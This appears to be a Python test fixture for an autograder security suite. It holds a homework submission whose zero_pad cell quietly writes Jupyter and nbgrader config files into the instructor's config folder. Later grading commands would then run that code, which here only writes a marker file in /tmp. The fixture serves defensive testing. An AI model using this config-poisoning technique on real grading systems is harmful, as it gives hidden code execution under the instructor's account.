"""Write Jupyter and nbgrader config files into the user's Jupyter config folder.

All eight functions are honest. The zero_pad cell writes ``nbgrader_config.py``,
``jupyter_config.py`` and ``jupyter_nbconvert_config.py`` into
``<jupyter config dir>``; any later nbgrader or Jupyter command of the instructor loads
them and runs their code outside any sandbox. Here the code records that it ran
(``/tmp/cnnattack_jupyter_config_poison``).
Without protection: code execution as the instructor in later commands.
(The test points JUPYTER_CONFIG_DIR at a folder of its own.)
"""
EXPECT = {"zero_pad", "conv_single_step", "conv_forward", "pool_forward", "conv_backward",
          "create_mask_from_window", "distribute_value", "pool_backward"}
APPEND = {"zero_pad": '''
import os as _os

try:
    from jupyter_core.paths import jupyter_config_dir as _config_dir

    _os.makedirs(_config_dir(), exist_ok=True)
    for _name in ("nbgrader_config.py", "jupyter_config.py", "jupyter_nbconvert_config.py"):
        with open(_os.path.join(_config_dir(), _name), "w") as _handle:
            _handle.write("open('/tmp/cnnattack_jupyter_config_poison', 'a').write(%r)\\n" % (_name + " ran\\n"))
except Exception:
    pass
'''}
